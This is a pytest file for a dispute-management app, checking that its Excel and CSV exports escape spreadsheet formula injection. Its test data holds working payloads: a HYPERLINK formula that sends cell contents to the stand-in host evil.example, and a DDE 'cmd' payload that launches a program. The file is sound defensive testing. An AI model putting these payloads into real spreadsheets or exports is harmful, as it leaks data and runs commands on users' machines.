"""Formula injection (issue #18, finding 4): a description `=HYPERLINK(...)` posted through
Open311 became a live formula in the risk-list and notice workbooks and in CLI exports.
Every workbook and CSV the product writes is read back here cell by cell: no formula, and
no text a spreadsheet would start running."""

from __future__ import annotations

import csv
from datetime import datetime, timedelta, timezone

import openpyxl
import pytest
import shapely

from geo import db
from geo.analysis import rankings
from geo.io import cells, exporter
from geo.risk import excel as risk_excel
from geo.risk import tiers as risk

TOWN = "620802001"
GRID = "620802001001001"
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def dangerous(value) -> bool:
    return isinstance(value, str) and value.startswith(cells.DANGEROUS_START)


def workbook_problems(path) -> list:
    book = openpyxl.load_workbook(path)
    return [
        (ws.title, cell.coordinate, cell.value)
        for ws in book.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f" or dangerous(cell.value)
    ]


@pytest.fixture
def hostile_world(tiny_jurisdiction, categories, add_grids, conn):
    """High-risk disputes whose text and place are attacks, in a grid named like one."""
    add_grids([(GRID, HOSTILE[0], "urban", shapely.box(106.650, 35.530, 106.655, 35.535))])
    risk.load_config(conn)
    now = datetime.now(timezone.utc)
    with db.transaction(conn) as cur:
        cur.execute("UPDATE admin_unit SET name = %s WHERE code = %s", (HOSTILE[3], TOWN))
        for k, text in enumerate(HOSTILE):
            cur.execute(
                """INSERT INTO incident (title, description, address, minor_code, source, reported_at, people_involved,
                                         duration_days, conflict_intensity, status, grid_code, admin_code, geom, deadline)
                   VALUES (%s, %s, %s, '0101', 'open311', %s, 35, 40, 2, 'in_progress', %s, left(%s, 12),
                           ST_SetSRID(ST_MakePoint(106.652, 35.532), 4326), %s)""",
                (text, text, text, now - timedelta(hours=k + 1), GRID, GRID, now + timedelta(days=15)),
            )
    return conn


def test_cells_are_escaped_the_owasp_way():
    for text in HOSTILE:
        assert cells.safe(text) == "'" + text
    assert cells.safe("路灯不亮") == "路灯不亮" and cells.safe(-3) == -3 and cells.safe(None) is None
    assert cells.safe_row(["=1", 2]) == ["'=1", 2]


def test_risk_list_and_notice_workbooks_hold_no_formula(hostile_world, tmp_path):
    assert risk_excel.write_risk_list(hostile_world, TOWN, tmp_path / "list.xlsx")["items"] == len(HOSTILE)
    risk_excel.write_notice(hostile_world, TOWN, tmp_path / "notice.xlsx")
    risk_excel.write_ledger(hostile_world, "high", tmp_path / "ledger.xlsx")
    for name in ("list.xlsx", "notice.xlsx", "ledger.xlsx"):
        assert workbook_problems(tmp_path / name) == [], name
    text = [c.value for row in openpyxl.load_workbook(tmp_path / "list.xlsx").worksheets[0].iter_rows() for c in row]
    assert "'" + HOSTILE[0] in text  # still there, as text


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_cli_exports_hold_no_formula(hostile_world, tmp_path, fmt):
    path = tmp_path / f"incidents.{fmt}"
    exporter.export_layer(hostile_world, "incidents", path)
    if fmt == "xlsx":
        assert workbook_problems(path) == []
    else:
        with path.open(encoding="utf-8-sig", newline="") as fh:
            values = [v for row in csv.reader(fh) for v in row]
        assert not [v for v in values if dangerous(v)]
        assert "'" + HOSTILE[0] in values
    grids = tmp_path / f"grids.{fmt}"
    exporter.export_layer(hostile_world, "grids", grids)
    if fmt == "xlsx":
        assert workbook_problems(grids) == []


def test_the_quarterly_rankings_workbook_holds_no_formula(hostile_world, tmp_path):
    now = datetime.now(timezone.utc)
    quarter = f"{now.year}Q{(now.month - 1) // 3 + 1}"
    path = tmp_path / "rankings.xlsx"
    rankings.to_excel(
        path, rankings.quarterly(hostile_world, quarter, min_sample=1), rankings.monthly(hostile_world, f"{now:%Y-%m}")
    )
    assert workbook_problems(path) == []


def test_the_alarm_ledger_workbook_holds_no_formula(loop_world, tmp_path):
    """预警台账 (the alarm desk's Excel) was written without the escaping: a close note, or a
    grid or town name (imported), starting with = became a live formula in every leader's
    export. Found by attacking the running app after issue #18."""
    from geo.alerts import export as alert_export
    from geo.alerts import lifecycle, rules
    from geo.incidents import dispatch
    from tests.support.loop import IN_SW

    risk.load_config(loop_world)
    rules.load_config(loop_world)
    with db.transaction(loop_world) as cur:
        cur.execute("UPDATE admin_unit SET name = %s WHERE code = %s", (HOSTILE[0], TOWN))
        cur.execute("UPDATE grid SET name = %s", (HOSTILE[2],))
    dispatch.create_incident(
        loop_world, lon=IN_SW[0], lat=IN_SW[1], minor_code="0103", actor="test", source="operator", people_involved=30
    )
    [alarm] = lifecycle.list_alerts(loop_world, status=None, rule="crowd")
    lifecycle.close(loop_world, alarm["id"], HOSTILE[3], HOSTILE[1])
    path = tmp_path / "alarms.xlsx"
    path.write_bytes(alert_export.workbook_bytes(lifecycle.list_alerts(loop_world, status=None)))
    assert workbook_problems(path) == []
    text = [c.value for row in openpyxl.load_workbook(path).worksheets[0].iter_rows() for c in row]
    assert "'" + HOSTILE[1] in text  # the note is still there, as text
